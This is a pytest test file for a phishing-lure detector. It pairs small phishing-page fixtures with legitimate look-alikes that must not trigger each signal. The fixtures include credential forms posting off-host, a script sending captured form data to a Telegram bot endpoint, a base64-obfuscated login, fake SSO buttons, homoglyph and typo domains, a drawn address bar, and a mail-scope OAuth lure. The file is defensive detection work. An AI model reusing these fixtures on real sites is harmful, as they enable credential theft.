"""``pipelines.lures``, rule by rule: each signal fires on its evidence, never on its look-alike.

Each case is a small page (URL and HTML) with the evidence of one signal and a fragment of the
reason it must give; its look-alike is the legitimate page that resembles it (a provider's own
login, a comment widget, a warning article) and must not raise that signal.
"""

from __future__ import annotations

import base64
import re
from pathlib import Path

import pytest

from pipelines import lures
from pipelines.brands import BrandIndex, load_brands
from pipelines.lures import LureIndex, brand_signals, lure_signals
from pipelines.normalise import normalise
from pipelines.signals import parse_page
from pipelines.watchlists import load_lures

INDEX = LureIndex(load_lures(), max_distance=2)
BRANDS = BrandIndex(load_brands())

LOGIN = (
    '<form method="post" action="{action}"><label>Email <input type="email" name="email"></label>'
    '<label>Password <input type="password" name="pass"></label><button>Sign in</button></form>'
)
CARD = (
    '<form method="post" action="{action}"><input name="holder" placeholder="Name on card">'
    '<input name="cardnumber" autocomplete="cc-number"><input name="cvc" autocomplete="cc-csc">'
    "<button>Start my free week</button></form>"
)
GOOGLE_AUTH = "https://accounts.google.com/o/oauth2/v2/auth"
MS_AUTH = "https://login.microsoftonline.com/common/oauth2/v2.0/authorize"


def _page(body: str, title: str = "Watch tonight") -> str:
    return f"<html><head><title>{title}</title></head><body>{body}</body></html>"


def _b64(html: str) -> str:
    return base64.b64encode(html.encode()).decode()


def signals(url: str, html: str) -> dict[str, str]:
    """The lure signals of a page: key -> the reason of its first occurrence."""
    doc = parse_page(html, url)
    found: dict[str, str] = {}
    folded = normalise(doc.text)
    for signal in lure_signals(doc, folded, INDEX) + brand_signals(doc, folded, BRANDS, INDEX):
        found.setdefault(signal.key, signal.reason)
    return found


# (signal, case id, page URL, page HTML, fragment of the reason)
EVIDENCE = [
    (
        "credential_form",
        "password-form-on-a-film-site",
        "https://moviebuffs-club.example/members",
        _page("<h1>Members</h1>" + LOGIN.format(action="/session")),
        "password form on moviebuffs-club.example",
    ),
    (
        "credential_form",
        "card-form-for-a-free-trial",
        "https://hdcinema-pass.example/trial",
        _page("<h2>One week free</h2>" + CARD.format(action="/trial/start")),
        "card form on hdcinema-pass.example",
    ),
    (
        "credential_offhost",
        "blog-form-posting-elsewhere",
        "https://cinema-nights.blogspot.com/2025/05/new-releases.html",
        _page(LOGIN.format(action="https://verify-members.example/session")),
        "password form posts to other host verify-members.example",
    ),
    (
        "credential_offhost",
        "form-mailed-to-the-crook",
        "https://stream-corner.example/unlock",
        _page(LOGIN.format(action="mailto:inbox4821@mail.example")),
        "posts to other host mailto:inbox4821@mail.example",
    ),
    (
        "collection_endpoint",
        "form-posting-to-a-php-gate",
        "https://stream-corner.example/unlock",
        _page(LOGIN.format(action="https://static-cdn.example/inc/next.php")),
        "posts to collection endpoint https://static-cdn.example/inc/next.php",
    ),
    (
        "collection_endpoint",
        "script-sending-the-form-to-a-chat-bot",
        "https://stream-corner.example/unlock",
        _page(
            LOGIN.format(action="#")
            + "<script>document.forms[0].onsubmit = function (e) { e.preventDefault();"
            " fetch('https://api.telegram.org/bot6613:AAFx/sendMessage',"
            " {method: 'POST', body: new FormData(e.target)}); };</script>"
        ),
        "script sends form data to api.telegram.org/bot",
    ),
    (
        "obfuscated_form",
        "login-written-by-base64-script",
        "https://stream-corner.example/watch/42",
        _page(
            f"<div id='gate'></div><script>document.write(atob('{_b64(LOGIN.format(action='/s'))}'"
            "))</script>"
        ),
        "password form built by an obfuscated script",
    ),
    (
        "sso_button_offprovider",
        "google-button-to-another-site",
        "https://freeflix-hd.example/watch/dune",
        _page(
            '<a class="btn" href="https://members.cinevault.example/join">Continue with Google</a>'
        ),
        '"Continue with Google" leads to members.cinevault.example, not google',
    ),
    (
        "sso_button_samehost",
        "facebook-button-to-the-sites-own-route",
        "https://freeflix-hd.example/watch/dune",
        _page(
            '<p>Unlock HD: <a href="/auth/facebook?next=/watch/dune">Log in with Facebook</a></p>'
        ),
        "handled by freeflix-hd.example itself, not facebook",
    ),
    (
        "sso_button_hidden",
        "facebook-button-through-a-shortener",
        "https://freeflix-hd.example/watch/dune",
        _page('<a href="https://bit.ly/3xYzAbC">Continue with Facebook</a>'),
        "leads to bit.ly, hiding where it goes, not facebook",
    ),
    (
        "sso_button_hidden",
        "google-button-to-a-bare-ip",
        "https://freeflix-hd.example/watch/dune",
        _page('<a href="http://203.0.113.7/g/login">Sign in with Google</a>'),
        "leads to 203.0.113.7, hiding where it goes",
    ),
    (
        "lookalike_domain",
        "leetspeak-brand-with-account-word",
        "https://cinema-nights.blogspot.com/2025/05/post.html",
        _page('<p>Verify your age first: <a href="https://faceb00k-verify.example/">here</a></p>'),
        "look-alike domain faceb00k-verify.example imitates facebook",
    ),
    (
        "lookalike_domain",
        "provider-host-as-a-subdomain",
        "https://cinema-nights.blogspot.com/2025/05/post.html",
        _page(LOGIN.format(action="https://accounts.google.com.signin-check.example/v2")),
        "accounts.google.com.signin-check.example imitates google",
    ),
    (
        "lookalike_domain",
        "typo-of-a-long-provider-label",
        "https://rnicrosoftonline.example/common/login",
        _page("<h1>Sign in</h1><p>Your session has expired.</p>"),
        "look-alike domain rnicrosoftonline.example imitates microsoftonline",
    ),
    (
        "lookalike_domain",
        "cyrillic-homoglyphs-in-punycode",
        "https://cinema-nights.blogspot.com/2025/05/post.html",
        _page('<a href="https://xn--ggle-login-evia.example/">Get the HD pass</a>'),
        "imitates google",
    ),
    (
        "bitb",
        "address-bar-drawn-over-a-login",
        "https://stream-portal.example/watch",
        _page(
            '<div class="popup"><div class="bar">https://accounts.google.com/signin/v2/identifier</div>'
            + LOGIN.format(action="/collect")
            + "</div>"
        ),
        "browser-in-the-browser: draws accounts.google.com beside a credential form",
    ),
    (
        "oauth_consent",
        "mail-scope-for-a-foreign-app",
        "https://freeflix-hd.example/watch/dune",
        _page(
            f'<a href="{GOOGLE_AUTH}?client_id=8812.apps.googleusercontent.com&response_type=code'
            "&redirect_uri=https%3A%2F%2Fhd-unlock.example%2Fcb"
            '&scope=openid+https%3A%2F%2Fmail.google.com%2F">Unlock the HD stream</a>'
        ),
        "on accounts.google.com asks mail.google.com for redirect to hd-unlock.example",
    ),
    (
        "oauth_consent_own_site",
        "drive-scope-for-the-sites-own-app",
        "https://hdunlock.example/player",
        _page(
            f'<a href="{GOOGLE_AUTH}?client_id=77.apps.googleusercontent.com&response_type=code'
            "&redirect_uri=https%3A%2F%2Fhdunlock.example%2Fcb"
            '&scope=https%3A%2F%2Fwww.googleapis.com%2Fauth%2Fdrive.readonly">Save to Drive</a>'
        ),
        "asks drive.readonly for this site's own app",
    ),
    (
        "lure_context",
        "preview-ended-sign-in-to-continue",
        "https://freeflix-hd.example/watch/dune",
        _page("<p>Your free preview has ended. Sign in to continue watching in HD.</p>"),
        'lure wording "sign in to continue watching"',
    ),
    (
        "provider_branding",
        "netflix-heading-over-a-foreign-login",
        "https://account-hold-notice.example/restore",
        _page(
            "<h1>NETFLIX</h1>" + LOGIN.format(action="/restore"), title="Restore your membership"
        ),
        "netflix branding beside a credential form on account-hold-notice.example",
    ),
    (
        "brand_lure",
        "paypal-sign-in-on-a-free-host",
        "https://resolution-center-7f3a.web.app/signin",
        _page(LOGIN.format(action="login.php"), title="Log in to your PayPal account"),
        "PayPal sign-in form on a foreign host resolution-center-7f3a.web.app",
    ),
]

# (signal, case id, page URL, page HTML): legitimate pages that resemble the evidence
LOOKALIKES = [
    (
        "credential_form",
        "googles-own-sign-in-page",
        "https://accounts.google.com/v3/signin/identifier?continue=https%3A%2F%2Fmail.google.com",
        _page(
            "<h1>Sign in</h1>" + LOGIN.format(action="/v3/signin/_/AccountsSignInUi/data"),
            title="Sign in - Google Accounts",
        ),
    ),
    (
        "credential_form",
        "newsletter-form-asking-an-email-only",
        "https://moviebuffs-club.example/",
        _page(
            '<form action="/subscribe"><input type="email" name="email"><button>Subscribe</button>'
            "</form>"
        ),
    ),
    (
        "credential_offhost",
        "login-posting-to-its-own-accounts-subdomain",
        "https://www.filmclub.example/",
        _page(LOGIN.format(action="https://accounts.filmclub.example/login")),
    ),
    (
        "collection_endpoint",
        "self-hosted-wordpress-login",
        "https://filmclub.example/wp-login.php",
        _page(LOGIN.format(action="https://filmclub.example/wp-login.php")),
    ),
    (
        "collection_endpoint",
        "telegram-channel-widget-without-a-form",
        "https://filmclub.example/news",
        _page(
            "<p>Follow our channel for premiere dates.</p><script>fetch("
            "'https://api.telegram.org/bot6613:AAFx/getChat?chat_id=@filmclub')"
            ".then(r => r.json())"
            "</script>"
        ),
    ),
    (
        "obfuscated_form",
        "the-same-login-in-plain-html",
        "https://stream-corner.example/watch/42",
        _page(LOGIN.format(action="/s")),
    ),
    (
        "sso_button_offprovider",
        "blogger-comment-widget",
        "https://cinema-nights.blogspot.com/2025/05/new-releases.html",
        _page(
            "<h4>Post a comment</h4><a href='https://www.blogger.com/comment/frame/8812?po=77&amp;hl=en'>"
            "Sign in with Google</a>"
        ),
    ),
    (
        "sso_button_offprovider",
        "scam-warning-quoting-the-button",
        "https://filmclub.example/guides/fake-streams",
        _page(
            '<h1>How fake streams steal accounts</h1><p>If a player asks you to "Continue with '
            'Google" before the film starts, close the tab.</p>'
        ),
    ),
    (
        "sso_button_samehost",
        "identity-services-button-on-a-page-asking-nothing",
        "https://filmclub.example/",
        _page(
            '<div id="g_id_onload"></div><button type="button" class="g_id_signin">Sign in with '
            "Google</button>"
        ),
    ),
    (
        "sso_button_hidden",
        "facebook-button-to-facebook",
        "https://filmclub.example/",
        _page(
            '<a href="https://www.facebook.com/login.php?next=https%3A%2F%2Ffilmclub.example">'
            "Continue with Facebook</a>"
        ),
    ),
    (
        "lookalike_domain",
        "the-real-microsoft-login",
        "https://filmclub.example/office-hours",
        _page(
            '<a href="https://login.microsoftonline.com/common/oauth2/authorize">Staff sign-in</a>'
        ),
    ),
    (
        "lookalike_domain",
        "brand-word-in-an-unrelated-name",
        "https://filmclub.example/trips",
        _page(
            '<a href="https://apple-orchard-tours.example/">Autumn tours</a>'
            '<a href="https://the-office-fans.example/">Sitcom fans</a>'
        ),
    ),
    (
        "bitb",
        "provider-named-in-a-help-text",
        "https://filmclub.example/help",
        _page(
            "<p>We never ask for your Google password: check accounts.google.com. If in doubt, "
            "visit your security page there.</p>" + LOGIN.format(action="/session")
        ),
    ),
    (
        "oauth_consent",
        "plain-sign-in-with-google-scopes",
        "https://filmclub.example/",
        _page(
            f'<a href="{GOOGLE_AUTH}?client_id=91.apps.googleusercontent.com&response_type=code'
            "&redirect_uri=https%3A%2F%2Fapp.filmclub-login.example%2Fcb"
            '&scope=openid+email+profile">Sign in</a>'
        ),
    ),
    (
        "oauth_consent_own_site",
        "long-lived-session-only",
        "https://filmclub.example/",
        _page(
            f'<a href="{MS_AUTH}?client_id=3f2&response_type=code'
            "&redirect_uri=https%3A%2F%2Ffilmclub.example%2Fcb"
            '&scope=offline_access+openid">Staff</a>'
        ),
    ),
    (
        "lure_context",
        "sign-in-to-comment",
        "https://filmclub.example/reviews/dune",
        _page("<p>Sign in to comment. Continue reading our review below.</p>"),
    ),
    (
        "provider_branding",
        "film-blog-about-netflix-without-a-form",
        "https://filmclub.example/netflix-this-week",
        _page("<h1>New on Netflix this week</h1><p>Three premieres worth your evening.</p>"),
    ),
    (
        "provider_branding",
        "foreign-login-without-a-brand",
        "https://moviebuffs-club.example/members",
        _page("<h1>Members area</h1>" + LOGIN.format(action="/session")),
    ),
    (
        "brand_lure",
        "paypals-own-sign-in-page",
        "https://www.paypal.com/signin",
        _page(LOGIN.format(action="/signin"), title="Log in to your PayPal account"),
    ),
]


def _ids(cases: list[tuple[str, ...]]) -> list[str]:
    return [f"{case[0]}:{case[1]}" for case in cases]


@pytest.mark.parametrize(("key", "case", "url", "html", "reason"), EVIDENCE, ids=_ids(EVIDENCE))
def test_signal_fires_on_its_evidence(
    key: str, case: str, url: str, html: str, reason: str
) -> None:
    found = signals(url, html)
    assert key in found, found
    assert reason in found[key]


@pytest.mark.parametrize(("key", "case", "url", "html"), LOOKALIKES, ids=_ids(LOOKALIKES))
def test_signal_stays_quiet_on_its_lookalike(key: str, case: str, url: str, html: str) -> None:
    assert key not in signals(url, html)


def test_every_signal_of_the_module_has_evidence_and_a_lookalike() -> None:
    source = Path(lures.__file__).read_text(encoding="utf-8")
    emitted = set(re.findall(r'Signal\(\s*"(\w+)"', source))
    assert emitted == {case[0] for case in EVIDENCE}
    assert emitted == {case[0] for case in LOOKALIKES}


@pytest.mark.parametrize(
    ("url", "form_action"),
    [
        ("https://accounts.google.com/v3/signin/identifier", "/v3/signin/challenge/pwd"),
        (
            "https://www.facebook.com/login/",
            "https://www.facebook.com/login/device-based/regular/",
        ),
        (
            "https://login.microsoftonline.com/common/login",
            "https://login.live.com/ppsecure/post.srf",
        ),
    ],
)
def test_a_providers_own_login_page_raises_nothing(url: str, form_action: str) -> None:
    html = _page(
        '<div class="header">https://accounts.google.com/</div><h1>Sign in</h1>'
        + LOGIN.format(action=form_action)
        + '<a href="/signin/v2/usernamerecovery">Forgot email?</a>',
        title="Sign in",
    )
    assert signals(url, html) == {}


def test_a_fake_google_button_on_an_evil_host_beside_its_login_is_a_lure() -> None:
    html = _page(
        "<h1>Google</h1>"
        + LOGIN.format(action="https://collect.drop-box7.example/next.php")
        + '<a href="https://goog1e-auth.example/o/oauth2">Continue with Google</a>',
    )
    found = signals("https://accounts-google.evil-gate.example/signin", html)
    assert {
        "credential_offhost",
        "collection_endpoint",
        "sso_button_hidden",
        "lookalike_domain",
    } <= set(found)


@pytest.mark.xfail(
    strict=True,
    reason="'live' is both a Microsoft short name and an account word: any host with the word "
    "'live' (a sports stream) is taken for a Microsoft look-alike",
)
def test_a_live_sports_link_is_not_a_microsoft_lookalike() -> None:
    html = _page('<p>Tonight: <a href="https://nba-live.example/game/7">the game, live</a></p>')
    assert "lookalike_domain" not in signals("https://sports-corner.example/tonight", html)


@pytest.mark.xfail(
    strict=True,
    reason="a login host followed by a path counts as a drawn address bar: a footer's "
    "'facebook.com/filmclub' profile beside a members' login is taken for browser-in-the-browser",
)
def test_a_social_profile_in_a_footer_is_no_drawn_address_bar() -> None:
    html = _page(
        "<h1>Members</h1>"
        + LOGIN.format(action="/session")
        + "<footer>Follow us: facebook.com/filmclub</footer>"
    )
    assert "bitb" not in signals("https://filmclub.example/members", html)
